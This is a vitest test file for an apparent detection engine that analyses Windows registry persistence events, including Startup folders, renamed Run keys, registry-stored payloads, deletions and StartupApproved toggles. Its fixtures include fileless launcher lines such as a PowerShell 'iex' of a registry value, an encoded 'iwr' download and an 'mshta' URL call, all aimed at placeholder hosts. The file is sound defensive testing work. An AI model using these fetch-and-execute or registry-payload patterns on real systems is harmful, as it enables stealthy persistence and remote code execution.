/** Facts of values that are no plain command line: folders, renamed keys, default values, code kept elsewhere, later deletions. */
import { describe, expect, it } from 'vitest';
import type { Fields } from '../../../src/core/event/event.ts';
import { created, event, factsOfCase, found, joined, NOON, run, runValue } from './events.ts';

const at = (seconds: number) => ({ time: NOON + seconds * 1000 });
const set = (path: string, data: readonly string[], seconds = 0, fields: Fields = {}) =>
  event('registry_set', { 'registry.path': path, 'registry.data.strings': data, ...fields }, at(seconds));

describe('a folder of the shell', () => {
  const EXPLORER = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer';
  it.each([
    [
      `${EXPLORER}\\User Shell Folders\\Startup`,
      '%AppData%\\my folder\\',
      '?:\\users\\*\\appdata\\roaming\\my folder',
    ],
    [`${EXPLORER}\\Shell Folders\\Startup`, ' C:\\my folder -x ', 'c:\\my folder -x'],
    [`${EXPLORER}\\User Shell Folders\\Startup`, 'C:\\a\\\\', 'c:\\a'],
  ])('%s holds a path, blanks and all', (path, data, folder) => {
    expect(factsOfCase(joined(set(path, [data])))).toMatchObject({
      'value.target.kind': 'folder',
      'value.target.path': folder,
      'value.target.name': folder.split('\\').at(-1),
      'value.target.relative': false,
      'value.target.unquoted_blank': false,
    });
  });

  it('may be a relative one, none at all, or not logged', () => {
    const of = (data: readonly string[]) =>
      factsOfCase(joined(set(`${EXPLORER}\\User Shell Folders\\Startup`, data)));
    expect(of(['startup'])).toMatchObject({ 'value.target.kind': 'folder', 'value.target.relative': true });
    expect(of([' '])['value.target.kind']).toBe('none');
    expect(of(['Binary Data'])['value.target.kind']).toBe('binary');
  });

  it('is no value of a key below', () => {
    const path = `${EXPLORER}\\User Shell Folders\\Sub\\Startup`;
    expect(factsOfCase(joined(set(path, ['C:\\a b'])))['value.target.kind']).not.toBe('folder');
  });
});

describe('a key that was renamed', () => {
  const renamed = event('registry_rename', {
    'registry.path': 'HKLM\\SOFTWARE\\X\\Run',
    'registry.previous_path': 'HKLM\\SOFTWARE\\X\\Walk',
  });
  const facts = (...neighbours: ReturnType<typeof set>[]) => factsOfCase(joined(renamed, { neighbours }));

  it('brings along the value that was set in it last', () => {
    const first = set('HKLM\\SOFTWARE\\X\\Walk\\a', ['C:\\x\\first.exe'], -9);
    const last = set('HKLM\\Software\\x\\walk\\b', ['C:\\x\\last.exe'], 0);
    const later = set('HKLM\\SOFTWARE\\X\\Walk\\c', ['C:\\x\\later.exe'], 5);
    expect(facts(first, last, later)).toMatchObject({
      'value.target.path': 'c:\\x\\last.exe',
      'value.source': 'log',
      'value.renamed_from': 'HKLM\\SOFTWARE\\X\\Walk',
    });
  });

  it('may be a value itself', () => {
    expect(facts(set('HKLM\\SOFTWARE\\X\\Walk', ['C:\\x\\a.exe'], -1))).toMatchObject({
      'value.target.path': 'c:\\x\\a.exe',
    });
  });

  it('brings along nothing of a key that only begins alike, nor what was not set', () => {
    for (const other of [
      set('HKLM\\SOFTWARE\\X\\Walking\\a', ['C:\\x\\a.exe'], -1),
      set('HKLM\\SOFTWARE\\X\\Other', ['C:\\x\\a.exe'], -1),
      event('registry_delete', { 'registry.path': 'HKLM\\SOFTWARE\\X\\Walk\\a' }, at(-1)),
    ]) {
      expect(facts(other)).toMatchObject({ 'value.source': 'missing' });
      expect(facts(other)['value.target.kind']).toBeUndefined();
    }
  });

  it('says nothing where its old name is not logged', () => {
    const nameless = event('registry_rename', { 'registry.path': 'HKLM\\SOFTWARE\\X\\Run' });
    const neighbours = [set('', ['C:\\x\\a.exe'], -1), set('\\a', ['C:\\x\\a.exe'], -1)];
    expect(factsOfCase(joined(nameless, { neighbours }))).toMatchObject({ 'value.source': 'missing' });
  });
});

describe('a value whose name is not logged', () => {
  const KEY = 'HKCU\\Software\\Classes\\x\\shell\\open\\command';
  const value = set(`${KEY}\\`, ['C:\\x\\a.exe'], 0, { 'registry.value': '' });
  const facts = (line?: string) =>
    factsOfCase(joined(value, line === undefined ? {} : { writer: found(run(line)) }));

  it('is the default value when its writer set that', () => {
    expect(facts(`reg add ${KEY} /ve /d C:\\x\\a.exe`)).toMatchObject({
      'value.name': '(Default)',
      'value.name_hidden': false,
    });
  });

  it('is hidden else', () => {
    for (const line of [
      undefined,
      'C:\\x\\setup.exe',
      `reg add ${KEY} /v a /d C:\\x\\a.exe`,
      'reg add \\\\srv\\HKCU\\Software\\Classes\\x /ve /d C:\\x\\a.exe',
    ]) {
      expect(facts(line)).toMatchObject({ 'value.name': '', 'value.name_hidden': true });
    }
  });
});

describe('what a value says of itself', () => {
  it('is its length in signs, all strings counted', () => {
    expect(factsOfCase(joined(set('HKCU\\A\\b', ['abc', 'de'])))).toMatchObject({
      'value.length': 6,
      'value.source': 'log',
    });
    expect(factsOfCase(joined(set('HKCU\\A\\b', ['Binary Data'])))).toMatchObject({
      'value.source': 'missing',
    });
    expect(factsOfCase(joined(set('HKCU\\A\\b', ['Binary Data'])))['value.length']).toBeUndefined();
  });

  it('comes from a command line where that told of it', () => {
    const told = { ...runValue('C:\\x\\a.exe'), inferred: { from: run('reg add') } };
    expect(factsOfCase(joined(told))).toMatchObject({ 'value.source': 'command_line', 'value.length': 10 });
  });

  it('leaves out what has no meaning without a file or a launcher', () => {
    const url = factsOfCase(joined(runValue('https://example.test/a')));
    expect(url).toMatchObject({ 'value.target.kind': 'url', 'value.url': 'https://example.test/a' });
    for (const name of [
      'value.target.name',
      'value.target.extension',
      'value.target.relative',
      'value.target.short_name',
      'value.target.unquoted_blank',
      'value.launchers',
      'value.window_hidden',
    ]) {
      expect([name, url[name]]).toEqual([name, undefined]);
    }
    expect(factsOfCase(joined(runValue('C:\\PROGRA~1\\x\\LONGNA~1.EXE')))).toMatchObject({
      'value.target.short_name': true,
      'value.target.unquoted_blank': false,
    });
    expect(factsOfCase(joined(runValue('cmd /c C:\\x\\a.exe')))).toMatchObject({
      'value.window_hidden': false,
      'value.launchers': ['cmd'],
      'value.program.name': 'cmd',
      'value.target.short_name': false,
    });
  });
});

describe('code that is kept in another value', () => {
  const HERE = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\X\\Y';
  const facts = (launcher: string, data: string, path = HERE) =>
    factsOfCase(joined(runValue(launcher), { neighbours: [set(path, [data], -1)] }));
  const LAUNCHER = 'powershell -c "iex (gp HKCU:\\Software\\X).Y"';

  it('is decoded, with its address', () => {
    const code = 'iwr https://example.test/b';
    const data = ` ${Buffer.from(code, 'utf16le').toString('base64')} `;
    expect(facts(LAUNCHER, data)).toMatchObject({
      'value.target.kind': 'registry_payload',
      'value.decoded': [code],
      'value.url': 'https://example.test/b',
    });
    expect(facts(LAUNCHER, 'mshta https://example.test/c')['value.url']).toBe('https://example.test/c');
  });

  it('adds its launchers, and a path only when it is a whole one', () => {
    expect(facts(LAUNCHER, 'wscript C:\\x\\a.vbs')).toMatchObject({
      'value.launchers': ['powershell', 'wscript'],
      'value.target.path': 'c:\\x\\a.vbs',
    });
    expect(facts(LAUNCHER, 'wscript a.vbs')['value.target.path']).toBeUndefined();
  });

  it('may be a variable that the value begins with', () => {
    const path = 'HKU\\S-1-5-21-1-2-3-1001\\Environment\\PAY';
    expect(facts('%PAY% -q', 'C:\\x\\a.exe', path)).toMatchObject({
      'value.target.kind': 'executable',
      'value.target.path': 'c:\\x\\a.exe',
    });
  });
});

describe('a deletion', () => {
  const value = runValue('C:\\x\\a.exe', { entityId: 'A' });
  const gone = (
    seconds: number,
    more: object = {},
    kind: 'registry_delete' | 'registry_set' = 'registry_delete',
  ) => event(kind, { 'registry.path': value.fields['registry.path'] as string }, { ...at(seconds), ...more });
  const facts = (neighbour: ReturnType<typeof gone>, ran?: number) =>
    factsOfCase(
      joined(value, {
        neighbours: [neighbour],
        ...(ran === undefined ? {} : { payloadProcess: found(run('a.exe', at(ran))) }),
      }),
    );

  it('may come at the same moment', () => {
    expect(facts(gone(0))['value.deleted.after']).toBe(0);
    expect(facts(gone(5, {}, 'registry_set'))['value.deleted.after']).toBeUndefined();
  });

  it('is by the writer only when both are known', () => {
    expect(facts(gone(1, { entityId: 'A' }))['value.deleted.by_writer']).toBe(true);
    expect(facts(gone(1, { entityId: 'B' }))['value.deleted.by_writer']).toBe(false);
    expect(facts(gone(1))['value.deleted.by_writer']).toBeUndefined();
    const unknown = factsOfCase(
      joined(runValue('C:\\x\\a.exe'), { neighbours: [gone(1, { entityId: 'B' })] }),
    );
    expect(unknown['value.deleted.by_writer']).toBeUndefined();
  });

  it.each([
    [undefined, false],
    [-1, false],
    [0, true],
    [5, true],
    [9, true],
    [10, false],
  ])('nine seconds later, a payload that ran at %s ran before it: %s', (ran, before) => {
    expect(facts(gone(9), ran)['value.run_before_delete']).toBe(before);
  });
});

describe('switching an entry', () => {
  const APPROVED =
    'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\Run';
  const state = (name: string, seconds: number, byte = '03') =>
    set(`${APPROVED}\\${name}`, [`${byte}000000`], seconds, { 'registry.value': name });
  const facts = (...neighbours: ReturnType<typeof state>[]) => {
    const all = factsOfCase(joined(runValue('C:\\x\\a.exe'), { neighbours }));
    return [all['value.switched'], all['value.switched_after']];
  };

  it('counts at the same moment or later, the last one', () => {
    expect(facts(state('Updater', 0))).toEqual(['disabled', 0]);
    expect(facts(state('Updater', 1), state('UPDATER', 2, '02'))).toEqual(['enabled', 2]);
  });

  it('does not count before, for another entry, or in another key', () => {
    expect(facts(state('Updater', -1))).toEqual([undefined, undefined]);
    expect(facts(state('Other', 1))).toEqual([undefined, undefined]);
    expect(facts(set('HKLM\\A\\Updater', ['03000000'], 1))).toEqual([undefined, undefined]);
    expect(facts(event('registry_delete', { 'registry.path': `${APPROVED}\\Updater` }, at(1)))).toEqual([
      undefined,
      undefined,
    ]);
  });
});

it('a created file is no value', () => {
  expect(factsOfCase(joined(created('C:\\x\\a.lnk')))['value.target.kind']).toBeUndefined();
});
